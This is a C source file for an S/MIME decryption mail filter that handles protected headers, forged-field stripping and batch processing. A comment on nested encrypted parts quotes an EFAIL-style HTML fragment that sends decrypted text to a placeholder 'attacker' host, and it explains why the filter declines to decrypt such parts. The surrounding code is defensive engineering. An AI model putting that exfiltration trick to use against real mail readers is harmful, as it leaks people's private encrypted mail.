/* smime-decrypt — open S/MIME enveloped-data or authEnveloped-data mail, as a mail filter:
 * every message comes out whole, decrypted or as it came, with a Secmail-Decryption record
 * saying which (lib/ar.h); see the filter contract in smime-decrypt(1). */
#include <getopt.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <sys/stat.h>

#include "ar.h"
#include "batch.h"
#include "cli.h"
#include "conf.h"
#include "envelope.h"
#include "envmsg.h"
#include "hp.h"
#include "io.h"
#include "keys.h"
#include "msg.h"
#include "param.h"

static const char usage[] =
    "usage: smime-decrypt [--cert FILE] [--key FILE | --p12 FILE]\n"
    "                     [--pass-file FILE | --pass-fd FD | --pass-env VAR]\n"
    "                     [-E | --strict] [--extract-nested] [--authserv-id ID]\n"
    "                     [-C FILE] [FILE]\n"
    "       smime-decrypt [options] --out-dir DIR [--force] FILE...\n"
    "       smime-decrypt [options] --maildir DIR (--to-maildir DIR | --in-place | --exec CMD)\n"
    "                     [--cur]\n"
    "\n"
    "Decrypt the S/MIME enveloped-data or authEnveloped-data message in FILE (or standard\n"
    "input) and write it, outer header fields unchanged, to standard output, with a\n"
    "Secmail-Decryption record first. A message that is not encrypted passes through; one\n"
    "that cannot be decrypted is written as it came with a record saying why. Exit 0 when a\n"
    "whole message was written; 75 when it could not be (retry), 66 for empty input.\n"
    "\n"
    "      --cert FILE       recipient certificate (PEM)\n"
    "      --key FILE        private key (PEM)\n"
    "      --p12 FILE        certificate and key from a PKCS#12 file\n"
    "      --pass-file FILE  passphrase: first line of FILE\n"
    "      --pass-fd FD      passphrase: first line read from file descriptor FD\n"
    "      --pass-env VAR    passphrase: environment variable VAR\n"
    "  -E, --exit-code       exit 1 when the message was not decrypted (it is still written)\n"
    "      --strict          write nothing unless decrypted; exit 65 or 69 saying why\n"
    "      --extract-nested  decrypt an encrypted part inside a multipart and write it alone\n"
    "      --authserv-id ID  the name in the record (default: host name)\n"
    "      --cert-dir DIR    accepted for old recipes; no effect (see smime-verify)\n"
    "  -C, --config FILE     read FILE instead of ~/.config/secmail/smime.conf\n"
    "  -h, --help            show this help and exit\n"
    "  -V, --version         show the version and exit\n"
    "\n"
    BATCH_USAGE
    "\n"
    "Defaults: the configuration file (cert, key, p12, pass_file, pass_env, authserv_id),\n"
    "then SECMAIL_CERT, SECMAIL_KEY, SECMAIL_P12, SECMAIL_PASS_FILE, SECMAIL_AUTHSERV_ID.\n";

enum result { R_PLAIN, R_DECRYPTED, R_FAILED };

struct run {
	struct io_in in;
	struct io_out o;
	struct msg_header h;
	int header_ok;		/* h holds the header; else it is passed on raw */
	int hsp;		/* the header region, spooled as it came */
	uint64_t hlen, hused;	/* its size; what msg_header_read took of it */
	size_t blank;		/* octets of the empty line that ended the header */
	const char *authserv;
	int in_fd;		/* the input ... */
	off_t in_base;		/* ... a regular file read from here on (else -1): a body
				 * that cannot be decrypted is read again instead of kept */
	struct keys_identity id;
	int strict, extract;
	enum result result;
	struct err why;		/* R_FAILED: the reason */
	char note[400];		/* R_DECRYPTED: a comment for the record, or "" */
};

/* Failures after which the message itself may be fine: the MDA should retry (contract 2). */
static _Noreturn void
die(const struct err *e)
{
	struct err t = *e;

	if (t.code == EX_IOERR || t.code == EX_CANTCREAT || t.code == EX_OSERR)
		t.code = EX_TEMPFAIL;
	cli_die_err(&t);
}

/* The key: unreadable files are transient (75), everything else about it configuration. */
static _Noreturn void
die_key(const struct err *e)
{
	struct err t = *e;

	t.code = t.code == EX_NOINPUT || t.code == EX_IOERR || t.code == EX_OSERR ? EX_TEMPFAIL
	    : EX_CONFIG;
	cli_die_err(&t);
}

static void
out_err(struct run *r)
{
	die(&r->o.e);
}

static void
copy_range(struct run *r, int fd, uint64_t off, uint64_t n)
{
	struct err e;

	if (n > 0 && envmsg_copy_range(fd, off, n, &r->o, &e) != 0)
		die(&e);
}

static void
copy_fd_rest(struct run *r, int fd, uint64_t off)
{
	off_t end = lseek(fd, 0, SEEK_END);
	struct err e;

	if (end < 0) {
		err_sys(&e, EX_IOERR, "cannot find the end of the body");
		die(&e);
	}
	copy_range(r, fd, off, (uint64_t)end - off);
}

/* The Secmail-Decryption record, first in the header (after an mbox "From " line). */
static void
add_record(struct run *r, const struct env_info *info)
{
	struct ar_decrypt d;
	struct err e;
	char *v, *full;
	size_t i, k;
	enum env_cipher c;

	memset(&d, 0, sizeof d);
	if (r->result == R_DECRYPTED) {
		d.result = AR_DEC_DECRYPTED;
		d.aead = info->auth;
		c = env_cipher_from_nid(info->cipher_nid);
		snprintf(d.cipher, sizeof d.cipher, "%.31s", c != ENV_CIPHER_NONE ? env_cipher_name(c)
		    : info->cipher);
		for (i = 0; d.cipher[i] != '\0'; i++)
			if (!strchr("abcdefghijklmnopqrstuvwxyz0123456789-", d.cipher[i] |= 0x20))
				d.cipher[i] = '-';
	} else {
		d.result = AR_DEC_FAILED;
		/* printable ASCII only: the reason may quote the input */
		for (i = k = 0; r->why.msg[i] != '\0' && k + 1 < sizeof d.reason; i++)
			d.reason[k++] = r->why.msg[i] >= 0x20 && r->why.msg[i] < 0x7f ? r->why.msg[i]
			    : '?';
	}
	if ((v = ar_decrypt_value(r->authserv, &d, &e)) == NULL)
		die(&e);
	full = v;
	if (r->note[0] != '\0' && (full = malloc(strlen(v) + strlen(r->note) + 4)) != NULL)
		sprintf(full, "%s (%s)", v, r->note);
	if (full == NULL || msg_header_insert(&r->h, 0, AR_DECRYPT_FIELD, full, &e) != 0) {
		if (full == NULL)
			err_sys(&e, EX_OSERR, "out of memory");
		die(&e);
	}
	if (full != v)
		free(full);
	free(v);
}

/* Not decrypted: the message as it came (forged verdict fields removed), with a record when
 * it was encrypted. The body: fd from off to its end (-1: none), then the rest of the input
 * unless rest is 0. */
static void
emit_original(struct run *r, int body, uint64_t off, int rest, const struct env_info *info)
{
	struct sink s = io_out_sink(&r->o);
	struct err e;

	if (r->strict) {
		if (r->result == R_PLAIN)
			cli_die(EX_DATAERR, "not an S/MIME encrypted message%s%s%s (nothing written)",
			    r->why.msg[0] ? " (" : "", r->why.msg, r->why.msg[0] ? ")" : "");
		cli_die(r->why.code == EX_UNAVAILABLE ? EX_UNAVAILABLE : EX_DATAERR, "%s",
		    r->why.msg);
	}
	if (r->result == R_FAILED) {
		cli_warn("not decrypted, written as it came: %s", r->why.msg);
		add_record(r, info);
	}
	if (!r->header_ok) {
		if (envmsg_header_strip_raw(r->hsp, r->hlen, r->authserv, &r->o, &e) != 0)
			die(&e);
	} else {
		if (msg_header_write(&r->o, &r->h) != 0
		    || io_out_write(&r->o, "\r\n" + (r->blank == 1), r->blank) != 0)
			out_err(r);
		copy_range(r, r->hsp, r->hused, r->hlen - r->hused);
	}
	if (body >= 0)
		copy_fd_rest(r, body, off);
	if (rest && envmsg_copy_in(&r->in, &s, &e) != 0)
		die(&e);
}

/* Not header protection: the fields of the entity's header that would stand beside outer
 * ones (envmsg_inner_dup) are left out, and the record names them. */
static void
inner_dups(struct run *r, const struct msg_header *ih)
{
	size_t i, len = strlen(r->note), n = 0;

	for (i = 0; i < ih->n; i++) {
		if (!envmsg_inner_dup(ih->f[i].name, &r->h))
			continue;
		snprintf(r->note + len, sizeof r->note - len, "%s%.20s", n++ == 0 ? (len ? "; the "
		    "encrypted entity's own " : "the encrypted entity's own ") : ", ", ih->f[i].name);
		len = strlen(r->note);
	}
	if (n > 0)
		snprintf(r->note + len, sizeof r->note - len, " left out: not protected header "
		    "fields (RFC 9788), they would stand beside the outer ones");
}

/* RFC 9788: the decrypted entity is the cryptographic payload when its Content-Type has hp;
 * then its protected fields replace the outer ones (the obscured Subject comes back) and the
 * record says so, with what differed outside. A signed entity is left to smime-verify. 1
 * with *shown (the header to write, record included) when protected, else 0. */
static int
protected_header(struct run *r, int pfd, const struct env_info *info, struct msg_header *shown)
{
	struct msg_header ih;
	struct hp_info hpi;
	struct err e;
	char d[300];
	size_t len;
	int rc = 0, merged;

	if (envmsg_read_decrypted_header(pfd, &ih, &e) != 0)
		die(&e);
	if (ih.n == 0 || hp_mode_of(&ih) == HP_NONE) {
		inner_dups(r, &ih);
		msg_header_free(&ih);
		add_record(r, info);
		return 0;
	}
	/* what differed, before the record (which is no field of the sender's) is added */
	merged = hp_merge(&r->h, &ih, 1, shown, &hpi, &e) == 0;
	if (!merged && e.code != EX_DATAERR)
		die(&e);
	len = strlen(r->note);
	if (!merged || shown->n >= MSG_MAX_FIELDS) {
		/* More fields outside and inside together than a header may hold (someone added
		 * fields outside): the outer header is written as it came, and the record says so. */
		snprintf(r->note + len, sizeof r->note - len, "%sthe header is protected (hp=%s), "
		    "but it cannot be shown: more than %d header fields", len ? "; " : "",
		    hp_mode_name(hp_mode_of(&ih)), MSG_MAX_FIELDS);
		msg_header_free(shown);
		msg_header_free(&ih);
		add_record(r, info);
		return 0;
	}
	msg_header_free(shown);
	hp_describe(&hpi, d, sizeof d);
	snprintf(r->note + len, sizeof r->note - len, "%s%s", len ? "; " : "", d);
	add_record(r, info);
	if (hp_merge(&r->h, &ih, 1, shown, &hpi, &e) != 0)
		die(&e);
	rc = 1;
	msg_header_free(&ih);
	return rc;
}

/* Decrypted: the outer fields but the envelope's Content-* ones, then the entity. */
static void
emit_decrypted(struct run *r, int pfd, const struct env_info *info)
{
	struct msg_header shown;
	struct err e;
	size_t i;
	int bare, hp;

	r->result = R_DECRYPTED;
	for (i = r->h.n; i-- > 0;)
		if (envmsg_is_inner(r->h.f[i].name))
			msg_header_delete(&r->h, i);
	hp = protected_header(r, pfd, info, &shown);
	if (msg_header_write(&r->o, hp ? &shown : &r->h) != 0)
		out_err(r);
	if (hp)
		msg_header_free(&shown);
	if (envmsg_write_decrypted(pfd, r->h.crlf, r->authserv, hp, &r->h, &r->o, &bare,
	    &e) != 0)
		die(&e);
	close(pfd);
}

/* Decrypt the body in `in` (at most n octets; their raw bytes also to tee unless it is -1):
 * 0 with the plaintext in *pfd, or -1 with r->why set (a failure of this message; transient
 * ones end the program). */
static int
decrypt_body(struct run *r, struct io_in *in, enum cte cte, uint64_t n, int tee, int *pfd,
    struct env_info *info)
{
	struct envmsg_bodysrc bs;
	struct ber_src src;
	int rc;

	memset(info, 0, sizeof *info);
	if (cte != CTE_BASE64 && cte != CTE_7BIT && cte != CTE_8BIT && cte != CTE_BINARY)
		return err_set(&r->why, EX_DATAERR, "unsupported Content-Transfer-Encoding for "
		    "an S/MIME body: %s", cte_name(cte));
	if (envmsg_bodysrc_init(&bs, in, cte == CTE_BASE64, &r->why) != 0)
		die(&r->why);
	bs.tee = tee;
	bs.limit = n;
	src = envmsg_bodysrc_src(&bs);
	rc = env_decrypt_spool(&src, r->id.pkey, r->id.cert, pfd, info, &r->why);
	envmsg_bodysrc_free(&bs);
	if (rc != 0 && (r->why.code == EX_IOERR || r->why.code == EX_CANTCREAT
	    || r->why.code == EX_OSERR))
		die(&r->why);
	return rc;
}

/* The message's content is the encrypted entity (RFC 8551 §3.3), or may be. */
static void
top(struct run *r, enum envmsg_kind kind)
{
	const struct msg_field *f = msg_header_get(&r->h, "Content-Transfer-Encoding");
	struct env_info info;
	struct err e;
	uint64_t off = r->in_base >= 0 ? (uint64_t)r->in_base + r->in.off : 0;
	int tsp = -1, pfd;

	if (r->in_base < 0 && (tsp = io_spool(&e)) < 0)
		die(&e);
	if (decrypt_body(r, &r->in, cte_parse(f != NULL ? f->value : NULL), UINT64_MAX, tsp,
	    &pfd, &info) == 0) {
		emit_decrypted(r, pfd, &info);
		if (tsp >= 0)
			close(tsp);
		return;
	}
	/* Signed or other CMS content, or a .p7m file that is no CMS at all: not encrypted. */
	r->result = info.content == ENV_CT_SIGNED || info.content == ENV_CT_OTHER
	    || (kind == ENVMSG_MAYBE_FILE && info.content == ENV_CT_UNKNOWN) ? R_PLAIN : R_FAILED;
	if (tsp >= 0)
		emit_original(r, tsp, 0, 1, &info);
	else
		emit_original(r, r->in_fd, off, 0, &info);
	if (tsp >= 0)
		close(tsp);
}

/*
 * An encrypted part inside a multipart. Decrypted in place, its plaintext would sit between
 * parts anyone can add, and a mail reader that joins them (an HTML part opening
 * <img src="http://attacker/? before it, one closing it after) sends it away: EFAIL's direct
 * exfiltration (Poddebniak et al., USENIX Security 2018). So it is not decrypted, unless
 * --extract-nested asks for it alone, without the parts around it.
 */
static void
nested(struct run *r)
{
	struct envmsg_part p;
	struct env_info info;
	struct sink s;
	struct io_out so;
	struct io_in pin;
	struct err e;
	int bsp, pfd, found;

	memset(&info, 0, sizeof info);
	if ((bsp = io_spool(&e)) < 0 || io_out_init(&so, bsp, "temporary file", &e) != 0)
		die(&e);
	s = io_out_sink(&so);
	if (envmsg_copy_in(&r->in, &s, &e) != 0)
		die(&e);
	if (io_out_finish(&so) != 0)
		die(&so.e);
	if ((found = envmsg_find_enveloped(bsp, &r->h, &p, &e)) < 0)
		die(&e);
	r->result = found ? R_FAILED : R_PLAIN;
	if (found && !r->extract) {
		err_set(&r->why, EX_DATAERR, "the encrypted part %s inside %s was not decrypted: "
		    "its plaintext would be put among parts anyone can add (EFAIL); "
		    "--extract-nested writes it alone", p.path, p.parent);
	} else if (found) {
		if (lseek(bsp, (off_t)p.body_offset, SEEK_SET) < 0
		    || io_in_init(&pin, bsp, "temporary file", &e) != 0) {
			err_sys(&e, EX_IOERR, "cannot read the temporary file");
			die(&e);
		}
		if (decrypt_body(r, &pin, p.cte, p.body_end - p.body_offset, -1, &pfd,
		    &info) == 0) {
			snprintf(r->note, sizeof r->note, "the encrypted part %.40s of %.40s, written "
			    "alone: the other parts were left out", p.path, p.parent);
			emit_decrypted(r, pfd, &info);
			io_in_free(&pin);
			close(bsp);
			return;
		}
		io_in_free(&pin);
	}
	emit_original(r, bsp, 0, 0, &info);
	close(bsp);
}

/* An authserv-id we write as it is: an RFC 2045 token (RFC 8601 §2.2). */
static int
authserv_ok(const char *s)
{
	size_t n = strlen(s);

	return n > 0 && n < 256 && strspn(s, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	    "0123456789.-_+!#$%&'*^`{|}~") == n;
}

/* Read the header (spooled first, so a header msg.c refuses still goes out as it came). */
static void
read_header(struct run *r)
{
	struct io_in hin;
	struct err e;
	size_t i, fields = 0;

	if (envmsg_spool_header(&r->in, &r->hsp, &r->hlen, &e) != 0
	    || io_in_init(&hin, r->hsp, "temporary file", &e) != 0)
		die(&e);
	msg_header_init(&r->h);
	r->header_ok = msg_header_read(&hin, &r->h, &e) == 0;
	if (!r->header_ok && e.code != EX_DATAERR)
		die(&e);
	r->hused = hin.off;
	io_in_free(&hin);
	if (!r->header_ok)
		return;
	for (i = 0; i < r->h.n; i++)
		fields += r->h.f[i].rawlen;
	fields += r->h.mbox_from != NULL ? strlen(r->h.mbox_from) : 0;
	r->blank = r->h.bytes > fields ? r->h.bytes - fields : 0;
	ar_strip(&r->h, r->authserv);
	/* A bare CR (not before an LF) becomes a space: a reader that takes it for a line end
	 * would see a record of ours hidden inside another field, which ar_strip never saw. */
	msg_header_no_bare_cr(&r->h);
}

/* One message, from m->in to m->out: the single-message path and every message of a batch.
 * Errors end the process (die), as they always did; in a batch, only its worker. */
static int
decrypt_one(void *ctx, const struct batch_msg *m, struct err *e)
{
	struct run *r = ctx;
	enum envmsg_kind kind = ENVMSG_PLAIN;
	const struct msg_field *f;
	struct mime_type ct;
	struct stat st;
	ssize_t got;

	/* What the last message left: everything but the options and the key. */
	r->header_ok = 0;
	r->hsp = -1;
	r->hlen = r->hused = 0;
	r->blank = 0;
	r->result = R_PLAIN;
	err_clear(&r->why);
	r->note[0] = '\0';
	r->in_fd = m->in;
	r->in_base = fstat(m->in, &st) == 0 && S_ISREG(st.st_mode) ? lseek(m->in, 0, SEEK_CUR) : -1;
	if (io_in_init(&r->in, m->in, m->name, e) != 0 || io_out_init(&r->o, m->out, m->out_name,
	    e) != 0)
		die(e);
	if ((got = io_in_fill(&r->in, 1)) < 0)
		die(&r->in.e);
	if (got == 0)
		cli_die(EX_NOINPUT, "%s is empty: not a message (nothing written)", m->name);
	read_header(r);
	if (r->header_ok && r->hused == r->hlen) {
		f = msg_header_get(&r->h, "Content-Type");
		if (f != NULL && mime_type_parse(f->value, 0, &ct, e) == 0) {
			kind = envmsg_kind(&ct, &r->h);
			mime_type_free(&ct);
		}
	}
	if (kind == ENVMSG_MULTIPART)
		nested(r);
	else if (kind != ENVMSG_PLAIN)
		top(r, kind);
	else
		emit_original(r, -1, 0, 1, NULL);
	if (io_out_finish(&r->o) != 0)
		out_err(r);
	msg_header_free(&r->h);
	io_in_free(&r->in);
	close(r->hsp);
	return 0;
}

int
main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "cert", required_argument, NULL, 'c' },
		{ "key", required_argument, NULL, 'k' },
		{ "p12", required_argument, NULL, 'p' },
		{ "pass-file", required_argument, NULL, 'F' },
		{ "pass-fd", required_argument, NULL, 'D' },
		{ "pass-env", required_argument, NULL, 'P' },
		{ "config", required_argument, NULL, 'C' },
		{ "cert-dir", required_argument, NULL, 'd' },
		{ "exit-code", no_argument, NULL, 'E' },
		{ "strict", no_argument, NULL, 's' },
		{ "extract-nested", no_argument, NULL, 'x' },
		{ "authserv-id", required_argument, NULL, 'a' },
		{ "help", no_argument, NULL, 'h' },
		{ "version", no_argument, NULL, 'V' },
		BATCH_LONGOPTS,
		{ NULL, 0, NULL, 0 },
	};
	static struct run r;
	struct keys_opts ko;
	struct err e;
	struct conf cf;
	struct batch bt;
	struct batch_msg m;
	const char *config = NULL, *as = NULL, *bad;
	char host[256];
	int c, exit_code = 0, rc;

	cli_init(argc, argv);
	batch_init(&bt, "decrypted", 0);
	keys_opts_init(&ko);
	while ((c = getopt_long(argc, argv, "C:EhV", longopts, NULL)) != -1) {
		switch (c) {
		case 'c': ko.cert = optarg; break;
		case 'k': ko.key = optarg; break;
		case 'p': ko.p12 = optarg; break;
		case 'F': ko.pass_file = optarg; break;
		case 'D': ko.pass_fd = optarg; break;
		case 'P': ko.pass_env = optarg; break;
		case 'C': config = optarg; break;
		case 'd': break;	/* no effect since issue 9: cipher notes need a signature */
		case 'E': exit_code = 1; break;
		case 's': r.strict = 1; break;
		case 'x': r.extract = 1; break;
		case 'a': as = optarg; break;
		case 'h': cli_help(usage);
		case 'V': cli_version();
		default:
			if (batch_option(&bt, c, optarg))
				break;
			cli_usage(usage, NULL);
		}
	}
	if (!batch_active(&bt) && argc - optind > 1)
		cli_usage(usage, "too many arguments");
	if (batch_active(&bt) && (bad = batch_check(&bt, argc - optind)) != NULL)
		cli_usage(usage, "%s", bad);
	if (batch_active(&bt) && (exit_code || r.strict))
		cli_usage(usage, "-E and --strict are for one message: in batch mode every message "
		    "is written with its record in its header");
	if (as != NULL && !authserv_ok(as))
		cli_usage(usage, "--authserv-id: '%s' is not a token (RFC 8601 §2.2)", as);
	/* Built-in < configuration file < environment < command line, as smime-sign. */
	conf_init(&cf);
	if (conf_open(&cf, config, "smime.conf", &e) < 0)
		cli_die_err(&e);
	if (as == NULL && (as = conf_setting(&cf, "SECMAIL_AUTHSERV_ID", "authserv_id")) != NULL
	    && !authserv_ok(as))
		cli_die(EX_CONFIG, "authserv_id (SECMAIL_AUTHSERV_ID or the configuration file): "
		    "'%s' is not a token (RFC 8601 §2.2)", as);
	r.authserv = as != NULL ? as : ar_default_authserv(host, sizeof host);
	keys_opts_defaults(&ko, &cf, KEYS_DEF_IDENTITY | KEYS_DEF_PASS);
	if (!batch_active(&bt) && batch_single(&m, optind < argc ? argv[optind] : NULL, &e) != 0)
		cli_die_err(&e);
	if (keys_load_identity(&ko, &r.id, &e) != 0)
		die_key(&e);
	/* Batch mode: the key is loaded once, decrypt_one runs for every message. */
	if (batch_active(&bt)) {
		rc = batch_run(&bt, argv + optind, argc - optind, decrypt_one, &r, &e);
		keys_identity_free(&r.id);
		conf_free(&cf);
		if (rc < 0)
			cli_die_err(&e);
		return rc;
	}
	decrypt_one(&r, &m, &e);
	keys_identity_free(&r.id);
	conf_free(&cf);
	return exit_code && r.result != R_DECRYPTED ? 1 : EX_OK;
}
